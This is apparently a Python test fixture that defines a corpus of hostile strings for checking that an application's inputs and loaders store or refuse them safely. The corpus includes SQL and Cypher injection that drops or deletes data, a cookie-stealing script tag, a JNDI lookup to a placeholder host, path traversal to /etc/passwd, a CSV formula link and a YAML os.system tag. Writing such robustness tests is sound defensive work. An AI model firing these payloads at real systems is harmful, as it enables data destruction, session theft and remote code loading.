"""The hostile-input corpus (issue 8): strings an attacker, a broken export or a copy-paste accident may send.

Every entry goes through every string field of every mutation, the loaders (seed YAML, bulk CSV, vendor documents)
and the vendor check. The contract is the same everywhere: the value is stored verbatim, or it is refused with an
error naming the field (file and line for files), and nothing else changes.

``json_only`` marks values only JSON can carry: a lone surrogate is valid JSON (``"\\ud800"``) but cannot be
written as UTF-8, so no file holds it.
"""

from __future__ import annotations

from dataclasses import dataclass

MB = 1_000_000


@dataclass(frozen=True)
class Hostile:
    name: str
    value: str
    json_only: bool = False

    def __str__(self) -> str:  # pytest ids
        return self.name


CORPUS: tuple[Hostile, ...] = (
    # injection: nothing here is ever spliced into Cypher (queries are parametrised), so all of it is plain text
    Hostile("sql-or", "' OR 1=1 --"),
    Hostile("sql-drop", "Robert'); DROP TABLE Organization;--"),
    Hostile("cypher-delete", '"}) MATCH (n) DETACH DELETE n //'),
    Hostile("cypher-single-quote", "x'}) DETACH DELETE n RETURN 1 //"),
    Hostile("cypher-param", "$param {param} $0"),
    Hostile("cypher-backticks", "`Organization` `n`.`id` ``"),
    Hostile("cypher-call", "CALL db.labels() YIELD label RETURN label"),
    Hostile("graphql", "{ __schema { types { name } } } mutation { upsertOrganization(input: {}) { id } }"),
    Hostile("graphql-variables", '"$input": {"id": "x"}, "query": "{ version }"'),
    Hostile("html-script", "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>"),
    Hostile("format-strings", "%s %n %x {0} {name!r} ${jndi:ldap://x.example/a} {{7*7}}"),
    Hostile("path-traversal", "../../../../etc/passwd ..\\..\\windows\\win.ini"),
    Hostile("csv-formula", '=HYPERLINK("http://x.example","click") +1 -1 @SUM(A1)'),
    # quotes and escapes of every kind
    Hostile("quotes", "'single' \"double\" `back` ‘curly’ “curly” «guillemets» ‹single› „low‟ ‚low‛ ′prime″"),
    Hostile("backslashes", "back\\slash \\n \\u0000 \\\\ \\' \\\" \\x00"),
    Hostile("json-like", '{"a": [1, {"b": null}]} [] {} null true'),
    Hostile("yaml-like", "yes: no\n- ~\n? &a *a !!python/object:os.system"),
    # control and invisible characters
    Hostile("nul", "before\x00after"),
    Hostile("controls", "bell\x07 escape\x1b[31m delete\x7f backspace\x08"),
    Hostile("crlf-tab", "line one\r\nline two\ttabbed"),
    Hostile("rtl-override", "\u202egnp.exe\u202c invoice \u2067isolate\u2069"),
    Hostile("zero-width", "zero\u200bwidth\u200cnon\u200djoiner\u2060word\ufeffbom"),
    Hostile("line-separators", "para\u2028graph\u2029end\u0085next"),
    Hostile("nbsp", "no\u00a0break\u202fspace"),
    # emoji, astral and combining characters
    Hostile("emoji-zwj", "👩\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈 🇧🇪 👍🏽"),
    Hostile("astral", "𝕳𝖊𝖑𝖑𝖔 𐍈 🀄 𓀀 \U0010fffd"),
    Hostile("combining", "Z̴̡̛a̶͎̓l̵̰̈g̷͚̈o̸̧͝ e\u0301 n\u0303"),
    Hostile("cjk-arabic", "名前 テスト 이름 الاسم שם"),
    Hostile("lone-surrogate", "lone \ud800 surrogate", json_only=True),
    Hostile("lone-low-surrogate", "\udfff", json_only=True),
    # sizes
    Hostile("at-text-limit", "y" * 2000),
    Hostile("1mb-word", "x" * MB),
    Hostile("1mb-words", ("word " * (MB // 5)).strip()),
    Hostile("empty", ""),
    Hostile("whitespace-only", " \t\n "),
)

# One entry of each kind, for a field whose input type already took the whole corpus elsewhere, and for paths where
# each value costs a subprocess or a whole import.
SAMPLE: tuple[Hostile, ...] = tuple(
    h
    for h in CORPUS
    if h.name
    in (
        "sql-or",
        "cypher-delete",
        "cypher-backticks",
        "quotes",
        "nul",
        "controls",
        "rtl-override",
        "zero-width",
        "emoji-zwj",
        "astral",
        "lone-surrogate",
        "1mb-word",
        "whitespace-only",
    )
)

DEEP_JSON_LEVELS = 10_000
LONG_LIST_ITEMS = 100_000


def deep_json(levels: int = DEEP_JSON_LEVELS) -> str:
    """``{"a":{"a":...}}`` nested ``levels`` deep, as raw JSON text (json.dumps itself would recurse too deeply)."""
    return '{"a":' * levels + "1" + "}" * levels


def deep_list(levels: int = DEEP_JSON_LEVELS) -> str:
    return "[" * levels + "]" * levels


def expected_stored(value: str) -> str:
    """What a stored text must read back as: the value itself, less surrounding whitespace.

    Trimming is the map's one documented normalisation (the seed files' rule, ``Text`` in domain/models.py); every
    other character, invisible or not, must come back exactly.
    """
    return value.strip()
